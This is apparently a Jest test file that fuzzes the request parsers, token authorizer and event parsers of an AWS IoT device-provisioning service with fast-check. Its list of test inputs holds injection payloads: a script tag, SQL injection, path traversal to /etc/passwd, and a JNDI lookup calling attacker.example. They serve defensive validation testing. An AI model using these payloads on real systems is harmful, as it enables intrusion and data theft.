/**
 * Property-based fuzzing of the handlers' input validation with fast-check: the request parsers
 * of POST /caRegister, /deviceCertificateGenerate, /provision/device and /register, the JSON body
 * reader, the token authorizer and the registrar's view of its context, and the event parsers of
 * the activator and the pre-provisioning hook. Bodies are biased towards each endpoint's own field
 * names, with values of every JSON type, injection-looking strings, unicode and control characters.
 * A parser returns or throws its typed refusal (a ClientError 4xx whose message starts with the
 * field; for events their own error types); never anything else. Then the four HTTP handlers
 * themselves, with every AWS call failing: no body answers 5xx unless it got as far as an AWS call,
 * and no answer carries a stack trace.
 */
import { createHash } from 'node:crypto';
import { IoTClient } from '@aws-sdk/client-iot';
import { LambdaClient } from '@aws-sdk/client-lambda';
import { S3Client } from '@aws-sdk/client-s3';
import type { APIGatewayProxyEvent, APIGatewayProxyResult } from 'aws-lambda';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { FUZZ_RUNS, fuzzOptions, outcomeOf } from './support/fuzz';
import { parseRegisterCaRequest } from '../../lambda-assets/ca-registrator/request';
import { parseProvisionRequest } from '../../lambda-assets/csr-provisioner/request';
import { MalformedEventError, parseRegisteredEvent } from '../../lambda-assets/device-activator/registered-event';
import { parseDeviceCertificateRequest } from '../../lambda-assets/device-certificate-generator/request';
import { readConfig as readRegistrarConfig } from '../../lambda-assets/device-registrar/config';
import { parseRegistrationRequest } from '../../lambda-assets/device-registrar/request';
import { readTokenContext } from '../../lambda-assets/device-registrar/token-context';
import { InvalidHookEventError, parseHookEvent } from '../../lambda-assets/fleet-provisioning-hook/hook-event';
import { ClientError } from '../../lambda-assets/shared/http/client-error';
import { createLogger } from '../../lambda-assets/shared/logging/logger';
import { parseJsonObjectBody } from '../../lambda-assets/shared/validation/json-body';
import { authorize, UNAUTHORIZED } from '../../lambda-assets/token-authorizer/authorize';
import { MalformedTokenTableError, parseTokenTable } from '../../lambda-assets/token-authorizer/token-table';
import { caRegisterEvent, loadRegistrator, REGISTRATOR_ENV } from '../lambda-assets/ca-registrator/support';
import { loadProvisioner, PROVISIONER_ENV, provisionEvent } from '../lambda-assets/csr-provisioner/support';
import { generateEvent, GENERATOR_ENV, loadGenerator } from '../lambda-assets/device-certificate-generator/support';
import { registerEvent, REGISTRAR_ENV } from '../lambda-assets/device-registrar/support';

jest.setTimeout(60_000);

/** Strings an attacker or a broken client sends. */
const NASTY = [
  '', ' ', '\t\n', '<script>alert(1)</script>', '\'; DROP TABLE things; --', '" OR "1"="1', '../../etc/passwd', '..\\..\\boot.ini',
  '${jndi:ldap://attacker.example/a}', '{{7*7}}', '%00', '\u0000', '\u0007', '\u001b[2J', '\u202egnp.exe', '\u200b', 'Ω≈ç√∫', '🔒🔑',
  '\ud800', 'sensor-1', 'x'.repeat(129), 'x'.repeat(5000), '0'.repeat(64), 'A'.repeat(64), '-1', '1e309', 'NaN', 'true', 'null',
  '$aws/things/x/shadow', '#', '+', '/', 'arn:aws:iot:eu-west-1:123456789012:policy/*', 'Token x', '__proto__',
  '-----BEGIN CERTIFICATE REQUEST-----\nMIIB\n-----END CERTIFICATE REQUEST-----',
  '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----', 'ECDSA-P256', 'RSA-2048', 'DEFAULT', 'SNI_ONLY', 'sensor', 'hub',
];

/** Any JSON value, strings biased to NASTY. */
const jsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(...NASTY),
    fc.string({ maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...NASTY.slice(0, 12))), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A body of an endpoint: its own field names (and nested ones) more often than others, any values. */
function bodyOf(fields: readonly string[]): fc.Arbitrary<Record<string, unknown>> {
  const key = fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...fields) }, { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor', 'toString') },
    { weight: 1, arbitrary: fc.string({ maxLength: 12 }) });
  // Through JSON, as a handler receives it (so '__proto__' is an own key, as JSON.parse makes it).
  return fc.dictionary(key, jsonValue, { maxKeys: 6 }).map((body) => JSON.parse(JSON.stringify(body)) as Record<string, unknown>);
}

const CA_FIELDS = ['csrSubjects', 'keyAlgorithm', 'validityDays', 'caCertificatePem', 'verificationCertificatePem', 'verifierName', 'certificateMode'];
const GENERATE_FIELDS = ['caCertificateId', 'csrPem', 'keyAlgorithm', 'subject', 'validityDays'];
const PROVISION_FIELDS = ['ThingName', 'CSR', 'ThingTypeName', 'AttributePayload', 'ThingGroups', 'rotate'];
const REGISTER_FIELDS = ['thingName', 'version', 'thingType', 'attributes'];

/** Every field name a refusal may start with: the endpoints' fields, their nested ones, and the body itself. */
const KNOWN_FIELDS = new Set([...CA_FIELDS, ...GENERATE_FIELDS, ...PROVISION_FIELDS, ...REGISTER_FIELDS, 'body', 'Authorization']);

/** Every key of a body, nested ones too. */
function keysOf(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => [key, ...keysOf(inner)]);
}

/** The message starts with the field: a known one (maybe with a path: `csrSubjects.commonName`, `ThingGroups[2]`), or a key the body holds. */
function namesAField(message: string, body: unknown): boolean {
  const field = message.split(/[.[,:]/)[0];
  if (KNOWN_FIELDS.has(field)) return true;
  // An unknown key, as the caller sent it: plain, or quoted as JSON when it does not read as a name (maybe cut at 64 characters).
  return keysOf(body).some((key) => key.length > 0 && (message.startsWith(key) || message.startsWith(JSON.stringify(key.slice(0, 64)).slice(0, -1))))
    || message.startsWith('""');
}

/** A refusal must be a ClientError: 4xx, a code, a message that starts with the field it is about. */
async function onlyClientErrors(call: () => unknown, body: unknown): Promise<'ok' | string> {
  const thrown = await outcomeOf(call, () => JSON.stringify(body).slice(0, 300));
  if (thrown === undefined) return 'ok';
  if (!(thrown instanceof ClientError)) {
    throw new Error(`threw ${(thrown as Error)?.name}: ${(thrown as Error)?.message} (not a ClientError) on ${JSON.stringify(body).slice(0, 300)}`);
  }
  expect(thrown.statusCode).toBeGreaterThanOrEqual(400);
  expect(thrown.statusCode).toBeLessThan(500);
  expect(thrown.code).toMatch(/^[A-Z][A-Za-z]+$/);
  const separator = thrown.message.indexOf(': ');
  expect(separator).toBeGreaterThan(0);
  if (thrown.statusCode !== 401 && !namesAField(thrown.message, body)) throw new Error(`"${thrown.message}" names no field of ${JSON.stringify(body)}`);
  expect(thrown.message).not.toMatch(/\n\s+at /);
  return thrown.code;
}

describe('request parsers: a request or a ClientError naming the field', () => {
  test('POST /caRegister (parseRegisterCaRequest)', async () => {
    const rules = { verifierNames: ['allowList'], defaultKeyAlgorithm: 'ECDSA-P256' as const, defaultValidityDays: 3650 };
    const codes = new Set<string>();
    await fc.assert(fc.asyncProperty(bodyOf([...CA_FIELDS, 'csrSubjects']).chain((body) => fc.oneof(
      fc.constant(body),
      // Nested subject objects with the subject fields the endpoint knows.
      bodyOf(['commonName', 'countryName', 'stateName', 'localityName', 'organizationName', 'organizationUnitName'])
        .map((subject) => ({ ...body, csrSubjects: subject })),
    )), async (body) => {
      codes.add(await onlyClientErrors(() => parseRegisterCaRequest(body, rules), body));
    }), fuzzOptions(FUZZ_RUNS * 3));
    expect([...codes]).toEqual(expect.arrayContaining(['ok', 'InvalidField']));
  });

  test('POST /deviceCertificateGenerate (parseDeviceCertificateRequest)', async () => {
    const rules = { defaultValidityDays: 365, maxValidityDays: 1000 };
    await fc.assert(fc.asyncProperty(bodyOf(GENERATE_FIELDS).chain((body) => fc.oneof(
      fc.constant(body),
      bodyOf(['commonName', 'countryName', 'organizationName', 'serialNumber', 'dnQualifier'])
        .map((subject) => ({ ...body, caCertificateId: 'a'.repeat(64), keyAlgorithm: 'ECDSA-P256', subject })),
    )), async (body) => {
      await onlyClientErrors(() => parseDeviceCertificateRequest(body, rules), body);
    }), fuzzOptions(FUZZ_RUNS * 3));
  });

  test('POST /provision/device (parseProvisionRequest)', async () => {
    await fc.assert(fc.asyncProperty(bodyOf(PROVISION_FIELDS).chain((body) => fc.oneof(
      fc.constant(body),
      fc.record({ attributes: fc.dictionary(fc.oneof(fc.constantFrom(...NASTY), fc.string()), jsonValue, { maxKeys: 5 }) })
        .map((payload) => ({ ...body, ThingName: 'sensor-1', AttributePayload: payload })),
      fc.array(jsonValue, { maxLength: 12 }).map((groups) => ({ ...body, ThingName: 'sensor-1', ThingGroups: groups })),
    )), async (body) => {
      await onlyClientErrors(() => parseProvisionRequest(body), body);
    }), fuzzOptions(FUZZ_RUNS * 3));
  });

  test('POST /register (parseRegistrationRequest), with any token rights', async () => {
    const config = readRegistrarConfig({ ...REGISTRAR_ENV });
    const rights = fc.record({
      tokenId: fc.constant('line-7'),
      tokenHash: fc.constant('0'.repeat(64)),
      oneTime: fc.boolean(),
      allowReissue: fc.boolean(),
      thingTypes: fc.subarray(['sensor', 'gateway', 'bare', 'hub']),
    });
    await fc.assert(fc.asyncProperty(bodyOf(REGISTER_FIELDS).chain((body) => fc.oneof(
      fc.constant(body),
      fc.dictionary(fc.oneof(fc.constantFrom('line', 'site', 'version', 'a'), fc.string()), jsonValue, { maxKeys: 5 })
        .map((attributes) => ({ ...body, thingName: 'gw-1', version: '1.0', attributes })),
    )), rights, async (body, token) => {
      await onlyClientErrors(() => parseRegistrationRequest(body, config, token), body);
    }), fuzzOptions(FUZZ_RUNS * 3));
  });

  test('any body text (parseJsonObjectBody): an object, or BodyTooLarge / MalformedJson / InvalidBody', async () => {
    const text = fc.oneof(fc.json(), fc.string({ maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 50 }),
      fc.json().map((json) => json.slice(0, Math.max(0, json.length - 1))), fc.constantFrom('{"a":1}'.repeat(10_000), '[', '{}', 'null', '"x"', '1'));
    await fc.assert(fc.asyncProperty(text, fc.boolean(), async (body, base64) => {
      const sent = base64 ? Buffer.from(body).toString('base64') : body;
      const code = await onlyClientErrors(() => parseJsonObjectBody(sent, base64), body);
      expect(['ok', 'BodyTooLarge', 'MalformedJson', 'InvalidBody']).toContain(code);
    }), fuzzOptions(FUZZ_RUNS * 3));
  });
});

describe('authorization: the token authorizer and the registrar\'s reading of its context', () => {
  const TOKEN = 'the-one-valid-token-0123456789';
  const table = parseTokenTable(JSON.stringify({
    tokens: [{ id: 'line-7', sha256: createHash('sha256').update(TOKEN).digest('hex'), oneTime: false }],
  }));
  const logger = createLogger({ function: 'fuzz' });
  const silence = () => jest.spyOn(process.stdout, 'write').mockImplementation(() => true);

  test('any Authorization header but "Token <the token>" is Unauthorized (the one message API Gateway answers with 401)', async () => {
    const restore = silence();
    try {
      const header = fc.oneof(
        fc.constantFrom(...NASTY), fc.string({ maxLength: 60 }), fc.string({ unit: 'grapheme', maxLength: 30 }),
        fc.tuple(fc.constantFrom('Token', 'token', 'TOKEN', 'Bearer', 'Basic', ''), fc.constantFrom(' ', '  ', '\t', ''),
          fc.oneof(fc.string({ maxLength: 40 }), fc.constant(`${TOKEN}x`), fc.constant(TOKEN.slice(1)), fc.constant('x'.repeat(2000))))
          .map(([scheme, gap, token]) => `${scheme}${gap}${token}`),
      );
      await fc.assert(fc.asyncProperty(header, async (authorizationToken) => {
        fc.pre(!/^\s*token +the-one-valid-token-0123456789\s*$/i.test(authorizationToken));
        const thrown = await outcomeOf(() => authorize({ tokenIdentifier: 'Token', tokens: async () => table, logger },
          { type: 'TOKEN', authorizationToken, methodArn: 'arn:aws:execute-api:eu-west-1:123456789012:abc/prod/POST/register' }),
        () => JSON.stringify(authorizationToken));
        expect((thrown as Error)?.message).toBe(UNAUTHORIZED);
      }), fuzzOptions(FUZZ_RUNS * 3));
    } finally {
      restore.mockRestore();
    }
  });

  test('any authorizer context but a well-formed one is a 401 ClientError in the registrar', async () => {
    const context = fc.oneof(fc.constant(null), fc.constant(undefined),
      bodyOf(['tokenId', 'tokenHash', 'oneTime', 'allowReissue', 'thingTypes']),
      fc.record({ tokenId: fc.constantFrom('line-7', ''), tokenHash: fc.constantFrom('0'.repeat(64), 'A'.repeat(64), 'xyz'), thingTypes: jsonValue.map((value) => JSON.stringify(value) ?? '') }));
    await fc.assert(fc.asyncProperty(context, async (authorizer) => {
      const event = { requestContext: { authorizer } } as unknown as APIGatewayProxyEvent;
      const code = await onlyClientErrors(() => readTokenContext(event), authorizer);
      expect(['ok', 'Unauthorized']).toContain(code);
    }), fuzzOptions(FUZZ_RUNS * 2));
  });

  test('any secret value is a token table or a MalformedTokenTableError (every token refused until fixed)', () => {
    const secret = fc.oneof(fc.json(), fc.string({ maxLength: 100 }),
      fc.array(bodyOf(['id', 'sha256', 'oneTime', 'allowReissue', 'thingTypes']), { maxLength: 3 }).map((tokens) => JSON.stringify({ tokens })));
    fc.assert(fc.property(secret, (value) => {
      try {
        parseTokenTable(value);
      } catch (error) {
        expect(error).toBeInstanceOf(MalformedTokenTableError);
      }
    }), fuzzOptions(FUZZ_RUNS * 3));
  });
});

describe('events: AWS IoT\'s and SQS\'s inputs, refused with their own error types', () => {
  test('certificate-registered events (device activator)', () => {
    const body = fc.oneof(fc.json(), fc.string({ maxLength: 100 }), bodyOf(['certificateId', 'caCertificateId', 'certificateStatus', 'timestamp'])
      .map((event) => JSON.stringify(event)));
    fc.assert(fc.property(body, (text) => {
      try {
        parseRegisteredEvent(text);
      } catch (error) {
        expect(error).toBeInstanceOf(MalformedEventError);
      }
    }), fuzzOptions(FUZZ_RUNS * 3));
  });

  test('pre-provisioning hook events', () => {
    const event = fc.oneof(jsonValue, bodyOf(['claimCertificateId', 'certificateId', 'certificatePem', 'templateArn', 'clientId', 'parameters']));
    fc.assert(fc.property(event, (value) => {
      try {
        parseHookEvent(value);
      } catch (error) {
        expect(error).toBeInstanceOf(InvalidHookEventError);
      }
    }), fuzzOptions(FUZZ_RUNS * 3));
  });
});

describe('the HTTP handlers: no 5xx and no stack trace before an AWS call', () => {
  const iot = mockClient(IoTClient);
  const s3 = mockClient(S3Client);
  const lambda = mockClient(LambdaClient);
  interface HttpHandler {
    readonly handle: (event: APIGatewayProxyEvent) => Promise<APIGatewayProxyResult>;
    readonly event: (body: unknown) => APIGatewayProxyEvent;
    readonly fields: string[];
  }
  const handlers: Record<string, HttpHandler> = {};
  let restoreOutput: jest.SpyInstance;

  beforeAll(() => {
    Object.assign(process.env, REGISTRATOR_ENV, GENERATOR_ENV, PROVISIONER_ENV, REGISTRAR_ENV);
    handlers['/caRegister'] = { handle: loadRegistrator(), event: caRegisterEvent, fields: CA_FIELDS };
    handlers['/deviceCertificateGenerate'] = { handle: loadGenerator(), event: generateEvent, fields: GENERATE_FIELDS };
    handlers['/provision/device'] = { handle: loadProvisioner(), event: provisionEvent, fields: PROVISION_FIELDS };
    const registrar = jest.requireActual<typeof import('../../lambda-assets/device-registrar')>('../../lambda-assets/device-registrar');
    handlers['/register'] = { handle: (event) => registrar.handler(event), event: (body) => registerEvent(body), fields: REGISTER_FIELDS };
  });
  beforeEach(() => {
    const failure = () => Object.assign(new Error('no AWS in this test'), { name: 'InternalFailureException' });
    iot.reset().onAnyCommand().rejects(failure());
    s3.reset().onAnyCommand().rejects(failure());
    lambda.reset().onAnyCommand().rejects(failure());
    restoreOutput = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
  });
  afterEach(() => restoreOutput.mockRestore());
  afterAll(() => {
    iot.restore();
    s3.restore();
    lambda.restore();
  });

  test.each(['/caRegister', '/deviceCertificateGenerate', '/provision/device', '/register'])('POST %s', async (path) => {
    const { handle, event, fields } = handlers[path];
    const body = fc.oneof(
      { weight: 4, arbitrary: bodyOf(fields) },
      { weight: 1, arbitrary: fc.oneof(fc.string({ maxLength: 100 }), fc.json(), fc.constant('{"a":'), fc.constant('x'.repeat(70_000))) },
    );
    await fc.assert(fc.asyncProperty(body, async (sent) => {
      const callsBefore = iot.calls().length + s3.calls().length + lambda.calls().length;
      const result = await handle(event(sent));
      const reachedAws = iot.calls().length + s3.calls().length + lambda.calls().length > callsBefore;
      expect(result.body).not.toMatch(/\n\s+at |\.ts:\d+|node_modules/);
      const answer = JSON.parse(result.body);
      if (result.statusCode >= 400) expect(answer.error).toEqual({ code: expect.any(String), message: expect.any(String) });
      if (result.statusCode >= 500 && !reachedAws) {
        throw new Error(`${result.statusCode} before any AWS call for ${JSON.stringify(sent).slice(0, 300)}: ${result.body}`);
      }
    }), fuzzOptions(FUZZ_RUNS * 2));
  });
});
